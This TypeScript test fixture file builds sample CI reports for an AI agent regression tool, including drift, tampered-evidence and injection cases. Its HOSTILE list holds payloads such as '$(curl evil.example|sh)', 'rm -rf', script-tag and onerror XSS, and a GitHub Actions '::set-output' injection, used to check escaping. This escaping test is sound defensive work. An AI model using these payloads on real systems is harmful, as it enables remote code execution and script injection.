/** Sample reports: the support desk agent of fixtures/refund-desk in good and bad days, and hostile ones. */
import { createHash } from "node:crypto";
import type {
  CallSide,
  CiReport,
  ExpectationChange,
  FixtureReport,
  GraderReport,
  ProjectReport,
  ToolCallChange,
  VerifiedArtifact,
} from "../../src/report/model.js";
import { totalsOf } from "../../src/report/totals.js";

const digest = (text: string): string => createHash("sha256").update(text).digest("hex");

export const HEAD = "0a1b2c3d4e5f60718293a4b5c6d7e8f901234567";
export const BASE = "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432";

export function reportOf(parts: Partial<CiReport>): CiReport {
  const { projects = [], artifacts = [] } = parts;
  const totals = totalsOf(projects, artifacts);
  const failed_on = parts.failed_on ?? conditions(totals);
  const isError = failed_on.includes("error");
  return {
    schema_id: "gait.ci.report",
    schema_version: "1.0.0",
    producer_version: "1.4.0",
    kind: "regress",
    status: isError ? "error" : failed_on.length > 0 ? "fail" : "pass",
    exit_code: isError ? 6 : failed_on.length === 0 ? 0 : failed_on.includes("tampered") ? 2 : 5,
    head_sha: HEAD,
    base_sha: BASE,
    base_note: "",
    shard: { index: 0, count: 0 },
    reproduce: "npx gait regress run --candidates out --json",
    projects,
    artifacts,
    totals,
    ...parts,
    failed_on,
  };
}

const conditions = (totals: CiReport["totals"]): CiReport["failed_on"] => [
  ...(totals.fixtures_errored > 0 ? (["error"] as const) : []),
  ...(totals.artifacts_tampered > 0 ? (["tampered"] as const) : []),
  ...(totals.fixtures_failed > 0 ? (["drift"] as const) : []),
  ...(totals.coverage_removed > 0 ? (["removed-coverage"] as const) : []),
];

export const projectOf = (fixtures: FixtureReport[], parts: Partial<ProjectReport> = {}): ProjectReport => ({
  path: ".",
  status: fixtures.some(({ status }) => status === "error") ? "error" : fixtures.some(({ status }) => status === "fail") ? "fail" : "pass",
  skipped: false,
  fixture_set: "default",
  config_file: "gait.yaml",
  config_digest: digest("gait.yaml"),
  fixtures,
  fixtures_added: [],
  fixtures_removed: [],
  fixtures_changed: [],
  problem: null,
  ...parts,
});

const GRADERS = ["diff", "expected_exit_code", "schema_validation", "trajectory"];

export function graders(failures: Partial<Record<string, Partial<GraderReport>>> = {}, names = GRADERS): GraderReport[] {
  return names.map((name) => ({
    name,
    status: failures[name] === undefined ? "pass" : "fail",
    reason_codes: [],
    message: "",
    location: null,
    ...failures[name],
  }));
}

export function fixtureOf(name: string, parts: Partial<FixtureReport> = {}): FixtureReport {
  const all = parts.graders ?? graders();
  return {
    name,
    run_id: `run_${name}`,
    status: all.some(({ status }) => status === "fail") ? "fail" : "pass",
    self_comparison: false,
    baseline: {
      path: `fixtures/${name}/runpack.zip`,
      run_id: `run_${name}`,
      manifest_digest: digest(`${name} base`),
      sha256: digest(`${name} zip`),
    },
    candidate: {
      path: `out/${name}.zip`,
      run_id: `run_${name}_pr`,
      manifest_digest: digest(`${name} head`),
      sha256: digest(`${name} new`),
    },
    tool_calls: [],
    verdicts: [],
    context: { classification: "none", receipts: [], widest_age_change_seconds: 0 },
    risk: { baseline: 12, candidate: 12, causes: [] },
    expectation_changes: [],
    problem: null,
    directory: `fixtures/${name}`,
    ...parts,
    graders: all,
  };
}

export const side = (index: number, args: string, parts: Partial<CallSide> = {}): CallSide => ({
  index,
  intent_id: `intent_${index}`,
  args_digest: digest(args),
  status: "ok",
  result_digest: digest(`result of ${args}`),
  verdict: "allow",
  args: "",
  ...parts,
});

export const call = (kind: ToolCallChange["kind"], tool: string, left: CallSide | null, right: CallSide | null): ToolCallChange => ({
  kind,
  tool,
  left,
  right,
});

const same = (index: number, tool: string, at = index): ToolCallChange =>
  call(at === index ? "same" : "moved", tool, side(index, tool), side(at, tool));

const refundCalls: ToolCallChange[] = [
  same(0, "crm.lookup"),
  call("removed", "ledger.search", side(1, '{"order_id":"o-77"}'), null),
  call(
    "status_changed",
    "ledger.refund",
    side(2, '{"amount_cents":4900}'),
    side(1, '{"amount_cents":490000}', { status: "blocked", verdict: "block" }),
  ),
  call("added", "fs.delete", null, side(2, '{"path":"ledger.jsonl"}')),
  same(3, "mail.write"),
];

const trajectoryFailure = {
  reason_codes: ["unexpected_tool_sequence", "unexpected_verdict_sequence"],
  message: "Expected `ledger.search` as call 1, got `ledger.refund`. Expected `allow` as verdict 1, got `block`.",
  location: { file: "fixtures/refund-incident/fixture.json", line: 9 },
};

export const refundIncident = (parts: Partial<FixtureReport> = {}): FixtureReport =>
  fixtureOf("refund-incident", {
    graders: graders({
      diff: { reason_codes: ["unexpected_diff"], message: "Changed beyond what is allowed: `intents.jsonl`, `results.jsonl`." },
      trajectory: trajectoryFailure,
    }),
    tool_calls: refundCalls,
    verdicts: [{ index: 1, expected: "allow", actual: "block" }],
    risk: { baseline: 36, candidate: 90, causes: [{ index: 2, tool: "fs.delete", score: 90 }] },
    ...parts,
  });

const nightlySync = (): FixtureReport =>
  fixtureOf("nightly-sync", {
    graders: graders(
      {
        context_conformance: {
          reason_codes: ["context_semantic_drift"],
          message: "The context was `9c9294a5d4b5`, now it is `19d1bcbd5d6c`.",
          location: { file: "fixtures/nightly-sync/fixture.json", line: 12 },
        },
      },
      ["context_conformance", ...GRADERS],
    ),
    context: {
      classification: "semantic",
      receipts: [
        {
          kind: "changed",
          ref_id: "doc:refund-policy",
          source_type: "handbook",
          left_digest: digest("policy 1"),
          right_digest: digest("policy 2"),
        },
        { kind: "added", ref_id: "doc:exceptions", source_type: "wiki", left_digest: "", right_digest: digest("exceptions") },
      ],
      widest_age_change_seconds: 86_400,
    },
  });

const relaxed = (parts: Partial<ExpectationChange> = {}): ExpectationChange => ({
  field: "expected_tool_sequence",
  class: "relaxed",
  base: "crm.lookup, crm.update, mail.write",
  head: "crm.lookup, mail.write",
  tool_calls: [],
  location: { file: "fixtures/address-change/fixture.json", line: 8 },
  ...parts,
});

const addressChange = (parts: Partial<ExpectationChange> = {}): FixtureReport =>
  fixtureOf("address-change", { expectation_changes: [relaxed(parts)] });

const quiet = (count: number, prefix = "ticket"): FixtureReport[] =>
  Array.from({ length: count }, (_, index) => fixtureOf(`${prefix}-${String(index + 1).padStart(3, "0")}`));

export const pass = (): CiReport => reportOf({ projects: [projectOf(quiet(7))] });

/** The report of the picture in the README. */
export const drift = (): CiReport => reportOf({ projects: [projectOf([addressChange(), nightlySync(), refundIncident(), ...quiet(4)])] });

export const driftWithArguments = (): CiReport => {
  const [first, second, third, fourth, last] = refundCalls;
  const withArgs = (change: ToolCallChange, left: string, right: string): ToolCallChange => ({
    ...change,
    left: change.left && { ...change.left, args: left },
    right: change.right && { ...change.right, args: right },
  });
  return reportOf({
    projects: [
      projectOf([
        refundIncident({
          tool_calls: [
            first!,
            withArgs(second!, '{"order_id":"o-77"}', ""),
            withArgs(third!, '{"amount_cents":4900,"order_id":"o-77"}', '{"amount_cents":490000,"order_id":"o-77"}'),
            withArgs(fourth!, "", '{"path":"ledger.jsonl"}'),
            last!,
          ],
        }),
      ]),
    ],
  });
};

export const relaxedOnly = (): CiReport => reportOf({ projects: [projectOf([addressChange(), ...quiet(6)])] });

export const rebaselined = (): CiReport =>
  reportOf({
    projects: [
      projectOf([
        addressChange({
          field: "runpack.zip",
          class: "rebaselined",
          base: "run_address_0412",
          head: "run_address_0519",
          tool_calls: refundCalls,
          location: { file: "gait.yaml", line: 5 },
        }),
      ]),
    ],
  });

export const removedCoverage = (): CiReport =>
  reportOf({
    projects: [
      projectOf(quiet(5), {
        fixtures_removed: [{ name: "refund-incident", run_id: "run_refund_0412", location: { file: "gait.yaml", line: 11 } }],
        fixtures_added: ["address-change"],
      }),
    ],
  });

export const selfComparison = (): CiReport =>
  reportOf({
    projects: [projectOf(quiet(7).map((fixture) => ({ ...fixture, self_comparison: true, candidate: null })))],
    reproduce: "npx gait regress run --json",
  });

export const unreadable = (): CiReport =>
  reportOf({
    projects: [
      projectOf([
        fixtureOf("refund-incident", {
          status: "error",
          graders: [],
          baseline: null,
          candidate: null,
          problem: {
            reason: "fixture_unreadable",
            message: "read fixture runpack for refund-incident: hash mismatch in `results.jsonl`",
            location: { file: "gait.yaml", line: 6 },
          },
        }),
        ...quiet(3),
      ]),
    ],
  });

export const badConfig = (): CiReport =>
  reportOf({
    projects: [
      projectOf([], {
        status: "error",
        problem: { reason: "config_invalid", message: "parse config: fixture name is required", location: { file: "gait.yaml", line: 4 } },
      }),
    ],
    failed_on: ["error"],
  });

export const runtimeDrift = (): CiReport =>
  reportOf({
    projects: [
      projectOf([
        fixtureOf("nightly-sync", { context: { classification: "runtime_only", receipts: [], widest_age_change_seconds: 10_800 } }),
        ...quiet(2),
      ]),
    ],
    base_note: "the event is a schedule",
  });

export const riskIncrease = (): CiReport =>
  reportOf({
    projects: [
      projectOf([
        fixtureOf("address-change", {
          tool_calls: [same(0, "crm.lookup"), call("added", "fs.write", null, side(1, '{"path":"x"}'))],
          risk: { baseline: 12, candidate: 48, causes: [{ index: 1, tool: "fs.write", score: 48 }] },
        }),
      ]),
    ],
    failed_on: ["risk-increase"],
  });

/** What a pull request would write to break out of where it is shown. */
export const HOSTILE = [
  "`` ` ``` rm -rf `",
  "a|b\\|c||",
  "<script>alert(1)</script><!-- --> <img src=x onerror=alert(1)>",
  "@octo-org/security @octocat a@b.example",
  "#123 GH-123 octo/repo#1 https://evil.example www.evil.example :tada:",
  "\u202eexe.gpj\u202c \u200b\ufeff\u2066\u00ad\u{e0041}",
  "line\nbreak\r\n## heading\n- list\n```\n</details>",
  "$(curl evil.example|sh) ; `id` && '\"$HOME\"'",
  "[click](javascript:alert(1)) ![x](https://evil.example/x.png)",
  "**bold** __x__ ~~y~~ $\\alpha$ \ud800 \u0000\u0007\u001b[31m",
  "\u0041".repeat(5_000),
  " ",
  "",
  "-->",
  "::error::injected%0A::set-output",
];

/** A report in which every text that a repository or a pack controls is one of `texts`. */
export const hostileReport = (texts: readonly string[]): CiReport =>
  reportOf({
    base_note: texts.join(" "),
    projects: [
      projectOf(
        texts.map((text, index) =>
          fixtureOf(text, {
            run_id: text,
            directory: `fixtures/${text}`,
            graders: graders({
              trajectory: {
                reason_codes: [text, "unexpected_tool_sequence"],
                message: `expected \`${text}\` ${text}`,
                location: { file: text, line: 3 },
              },
            }),
            tool_calls: [
              call("added", text, null, side(index, text, { status: text, verdict: text, args: text })),
              call("args_changed", text, side(1, "a", { args: text, args_digest: text }), side(2, "b", { args: `{"${index}":1}` })),
            ],
            verdicts: [{ index: 0, expected: text, actual: "" }],
            context: {
              classification: "semantic",
              receipts: [{ kind: "changed", ref_id: text, source_type: text, left_digest: text, right_digest: text }],
              widest_age_change_seconds: 1,
            },
            risk: { baseline: 0, candidate: 9, causes: [{ index: 0, tool: text, score: 9 }] },
            expectation_changes: [
              { field: text, class: "relaxed", base: text, head: text, tool_calls: [], location: { file: text, line: 1 } },
            ],
            candidate: { path: text, run_id: text, manifest_digest: text, sha256: "" },
          }),
        ),
        {
          fixture_set: texts.at(-1)!,
          fixtures_added: [...texts],
          fixtures_removed: texts.map((text) => ({ name: text, run_id: text, location: { file: text, line: 1 } })),
        },
      ),
      projectOf([], { path: texts[0]!, status: "error", problem: { reason: texts.at(-1)!, message: texts.join(" "), location: null } }),
    ],
  });

export const hostile = (): CiReport => hostileReport(HOSTILE);

export const fiveHundred = (): CiReport =>
  reportOf({
    projects: [
      projectOf([
        ...quiet(200, "calm"),
        ...Array.from({ length: 300 }, (_, index) => refundIncident({ name: `drifting-${String(index).padStart(3, "0")}` })),
      ]),
    ],
  });

/** One fixture whose diff alone is longer than a comment may be. */
export const longDiff = (): CiReport =>
  reportOf({
    projects: [
      projectOf([
        refundIncident({
          tool_calls: Array.from({ length: 1_000 }, (_, index) =>
            index % 3 === 0
              ? same(index, "crm.lookup")
              : call(
                  "args_changed",
                  `ledger.page_${index}`,
                  side(index, `${index}`, { args: JSON.stringify({ page: index, query: "a".repeat(350) }) }),
                  side(index, `${index}x`, { args: JSON.stringify({ page: index + 1, query: "b".repeat(350) }) }),
                ),
          ),
        }),
      ]),
    ],
  });

export const monorepo = (): CiReport =>
  reportOf({
    reproduce: "npx gait ci report",
    projects: [
      projectOf(quiet(12, "api"), { path: "apps/api", config_file: "apps/api/gait.yaml" }),
      projectOf(
        [
          refundIncident({
            directory: "apps/desk/fixtures/refund-incident",
            candidate: { path: "apps/desk/out/refund-incident.zip", run_id: "run_pr", manifest_digest: digest("x"), sha256: digest("y") },
          }),
          ...quiet(2, "desk"),
        ],
        { path: "apps/desk", config_file: "apps/desk/gait.yaml" },
      ),
      projectOf([], { path: "libs/prompts", config_file: "libs/prompts/gait.yaml", skipped: true }),
    ],
  });

export const artifactOf = (path: string, parts: Partial<VerifiedArtifact> = {}): VerifiedArtifact => ({
  path,
  kind: "pack",
  id: digest(path),
  status: "pass",
  files_checked: 6,
  missing_files: [],
  hash_mismatches: [],
  undeclared_files: [],
  duplicate_entries: [],
  signature_status: "verified",
  signature_errors: [],
  key_ids: [digest("key")],
  warnings: [],
  problem: null,
  change: "new",
  ...parts,
});

export const verifyPass = (): CiReport =>
  reportOf({
    kind: "verify",
    artifacts: [artifactOf("evidence/pack_1.zip"), artifactOf("evidence/pack_2.zip", { change: "same" })],
    reproduce: "npx gait verify evidence",
  });

export const verifyTampered = (): CiReport =>
  reportOf({
    kind: "verify",
    reproduce: "npx gait pack verify evidence/pack_2.zip --json",
    artifacts: [
      artifactOf("evidence/pack_1.zip", { change: "same" }),
      artifactOf("evidence/run_unsigned.zip", { kind: "runpack", signature_status: "missing", key_ids: [] }),
      artifactOf("evidence/pack_2.zip", {
        status: "fail",
        change: "changed",
        signature_status: "failed",
        signature_errors: ["signature verification failed"],
        hash_mismatches: [{ path: "proof_records.jsonl", expected: digest("a"), actual: digest("b") }],
        undeclared_files: ["notes.txt"],
        missing_files: ["run.json"],
      }),
      artifactOf("evidence/trace_9.json", { kind: "trace", signature_status: "skipped", change: "signature_lost" }),
      artifactOf("evidence/broken.zip", {
        kind: "unknown",
        id: "",
        status: "error",
        files_checked: 0,
        signature_status: "",
        key_ids: [],
        problem: { reason: "artifact_unreadable", message: "not a zip archive", location: null },
      }),
    ],
    status: "fail",
    exit_code: 2,
    failed_on: ["error", "tampered"],
  });

/** Every sample by name. */
export const SAMPLES: Readonly<Record<string, () => CiReport>> = {
  pass,
  drift,
  "drift-with-arguments": driftWithArguments,
  relaxed: relaxedOnly,
  rebaselined,
  "removed-coverage": removedCoverage,
  "self-comparison": selfComparison,
  unreadable,
  "bad-config": badConfig,
  "runtime-drift": runtimeDrift,
  "risk-increase": riskIncrease,
  hostile,
  "five-hundred": fiveHundred,
  "long-diff": longDiff,
  monorepo,
  "verify-pass": verifyPass,
  "verify-tampered": verifyTampered,
};
